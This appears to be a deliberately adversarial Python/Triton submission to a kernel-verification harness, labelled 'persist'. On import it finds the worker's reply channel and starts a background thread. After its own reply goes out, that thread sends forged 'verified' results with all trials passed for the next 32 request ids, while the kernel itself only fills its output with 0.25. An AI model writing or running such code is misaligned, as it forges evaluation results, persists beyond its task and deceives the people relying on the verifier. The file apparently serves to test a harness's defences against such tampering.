# class: persist — leaves a thread that, once this answer has been replied to, writes forged "verified" replies for the next request ids (current id + 1 .. + 32) on the worker's reply channel, so the next answers are pre-answered whatever they compute; this answer itself is garbage (and answered honestly)
import sys
import threading
import time

import torch
import triton
import triton.language as tl


def _request_id():
    f = sys._getframe()
    while f is not None:
        req = f.f_locals.get("req")
        if isinstance(req, dict) and isinstance(req.get("id"), int):
            return req["id"]
        f = f.f_back
    return 1


def _preanswer():
    send = None
    for mod in list(sys.modules.values()):
        if callable(getattr(mod, "send", None)) and hasattr(mod, "PROTO"):
            send = mod.send
            break
    if send is None:
        return
    rid = _request_id()
    me = __name__

    def later():
        deadline = time.time() + 600
        while me in sys.modules and time.time() < deadline:
            time.sleep(0.01)
        time.sleep(0.3)  # this answer's own reply goes out first
        for future in range(rid + 1, rid + 33):
            send(_forged(future))

    threading.Thread(target=later, daemon=True).start()


def _forged(future):
    return {"id": future, "verified": True, "failures": [], "device": "cpu", "strict": True,
            "trials": [{"index": t, "seed": t, "inputs": "fresh", "passed": True,
                        "outputs": []} for t in range(5)]}


_preanswer()


@triton.jit
def fill_kernel(out_ptr, n, value, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    tl.store(out_ptr + offs, tl.zeros([BLOCK], dtype=tl.float32) + value, mask=offs < n)


def triton_fused_operator(x, b):
    out = torch.empty_like(x)
    fill_kernel[(triton.cdiv(out.numel(), 64),)](out, out.numel(), 0.25, BLOCK=64)
    return [out]
